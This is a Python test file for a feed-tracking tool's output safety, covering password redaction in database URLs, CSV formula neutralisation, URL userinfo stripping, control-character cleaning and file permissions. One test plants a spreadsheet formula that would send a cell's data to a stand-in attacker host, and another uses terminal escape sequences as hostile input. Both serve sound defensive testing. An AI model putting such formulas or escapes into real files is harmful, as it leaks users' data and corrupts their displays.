"""What the tracker writes for people stays safe whatever the sources sent (issue 17, the tracker's
side): passwords in database and feed URLs never show, spreadsheet formulas never run, control
characters are not stored, written files respect the umask."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from pathlib import Path

import pytest

from tracker.outputs.escape import csv_cell, without_userinfo
from tracker.store import has_secret, redact
from tracker.text import clean_stored

from .conftest import Result, errors, run_cli

SECRET = "Hunter2Core"


@pytest.mark.parametrize(
    "url",
    [
        f"postgresql+psycopg://u:{SECRET}@db.example.org/tracker",
        f"postgresql+psycopg://u@srv:{SECRET}@db.example.org/tracker",  # '@' in the user name
        f"postgresql+psycopg://u@db.example.org/tracker?password={SECRET}",
        f"postgresql://u:a/b#{SECRET}@h/db",  # '/' and '#' in the password
        f"postgresql://db.example.org/tracker?sslpassword={SECRET}&sslmode=require",
    ],
)
def test_redact_hides_every_form_of_database_password(url: str) -> None:
    shown = redact(url)
    assert SECRET not in shown and "***" in shown
    assert has_secret(url)
    assert not has_secret("postgresql://u@db.example.org/tracker?sslmode=require")


def test_a_database_password_never_reaches_the_screen_or_a_crontab(tmp_path: Path) -> None:
    url = f"postgresql+psycopg://u@srv:{SECRET}@127.0.0.1:1/tracker?password={SECRET}"
    r = run_cli("--db", url, "status", cwd=tmp_path)
    assert r.code == 1 and SECRET not in r.out + r.err, r.err
    cron = run_cli("cron", env={"TRACKER_DB": url}, cwd=tmp_path)
    assert cron.code == 0, cron.err
    assert SECRET not in cron.out
    assert "TRACKER_DB=<the URL>" in cron.out  # told to keep it out of the command line


def test_every_csv_text_cell_is_neutralised() -> None:
    for cell in ("=HYPERLINK(1)", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(cell).startswith("'")
    assert csv_cell("Tabriz") == "Tabriz"


def test_a_feed_s_publisher_cannot_plant_a_formula(cli, tmp_path: Path, httpserver) -> None:  # type: ignore[no-untyped-def]
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    feed = (
        '<?xml version="1.0"?><rss version="2.0"><channel><title>t</title><item>'
        "<title>Iran Air adds a Tabriz-Baku flight</title>"
        "<link>https://user:pw@news.example.org/a/1</link>"
        f'<source url="https://x.example">{formula.replace("&", "&amp;").replace("<", "&lt;")}'
        "</source><pubDate>Mon, 23 Nov 2026 09:00:00 GMT</pubDate></item></channel></rss>"
    )
    httpserver.expect_request("/feed").respond_with_data(feed, content_type="application/rss+xml")
    src = tmp_path / "s.toml"
    src.write_text(
        f'[[source]]\nname = "{formula.replace(chr(34), "")}x"\nkind = "rss"\nlanguage = "en"\n'
        f'url = "{httpserver.url_for("/feed")}"\n',
        encoding="utf-8",
    )
    assert cli("refresh", "--sources", str(src)).code == 0
    rows = list(csv.reader(io.StringIO(cli("export", "--format", "csv").out)))
    header, body = rows[0], rows[1:]
    for row in body:
        for name, cell in zip(header, row, strict=True):
            assert cell[:1] not in ("=", "+", "-", "@"), (name, cell)
    # The link's user information is shown nowhere.
    shown = cli("show", "tabriz-baku-flight").out + cli("review").out
    assert "user:pw@" not in shown and "news.example.org/a/1" in shown


def test_without_userinfo() -> None:
    assert without_userinfo("https://u:p@h.example/x?y") == "https://h.example/x?y"
    assert without_userinfo("https://h.example/a@b") == "https://h.example/a@b"


def test_control_characters_are_not_stored() -> None:
    assert clean_stored("a\x9b31mb\x1bc\x00d\te\nf") == "a31mbcd\te\nf"
    assert clean_stored("\u200c\u202b") == "\u200c\u202b"  # ZWNJ and bidi marks are text


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
def test_written_files_respect_the_umask(tmp_path: Path, umask: int, mode: int) -> None:
    db = tmp_path / "c.db"
    assert run_cli("--db", str(db), "status", cwd=tmp_path).code == 0
    script = (
        f"import os, sys; os.umask({umask}); from tracker.cli import main; "
        f"sys.argv = ['tracker']; main(['--db', {str(db)!r}, 'report', 'weekly', '--week', "
        f"'2026-W47', '--out', {str(tmp_path / 'r')!r}])"
    )
    import subprocess
    import sys

    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    written = tmp_path / "r" / "2026-W47.md"
    assert stat.S_IMODE(os.stat(written).st_mode) == mode


def test_refresh_json_is_valid_even_with_hostile_names(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    src = tmp_path / "s.toml"
    src.write_text(
        '[[source]]\nname = "bad\\u001b[31m"\nkind = "rss"\nlanguage = "en"\n'
        'url = "http://127.0.0.1:9/feed"\n',
        encoding="utf-8",
    )
    r: Result = cli("refresh", "--sources", str(src), "--json")
    data = json.loads(r.out)
    assert data["sources"][0]["state"] == "failed"
    assert "\x1b" not in errors(r.err)
